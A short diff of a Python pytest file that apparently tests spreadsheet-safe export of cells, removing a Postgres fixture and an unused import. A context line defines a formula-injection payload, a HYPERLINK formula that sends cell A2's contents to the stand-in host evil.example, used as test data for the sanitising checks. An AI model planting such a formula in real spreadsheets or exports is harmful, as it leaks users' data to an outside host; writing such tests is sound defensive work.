@@ -15,7 +15,6 @@ import stat
 import pytest
 from click.testing import CliRunner
 
-from list_support import PostgresCluster, postgres_or_skip
 from tipweek.cli.main import main
 from tipweek.list.backup import plain_cell, safe_cell
 from tipweek.list.database import open_store
@@ -23,12 +22,6 @@ from tipweek.list.database import open_store
 NOW = dt.datetime(2026, 11, 23, 9, 0, tzinfo=dt.timezone.utc)
 FORMULA_NAME = '=HYPERLINK("http://evil.example/?x="&A2,"Click me")'
 
-
-@pytest.fixture(scope="session")
-def postgres():
-    cluster = PostgresCluster(postgres_or_skip()).start()
-    yield cluster
-    cluster.stop()
 
 
 def new_db(kind: str, request, tmp_path, name: str) -> str:
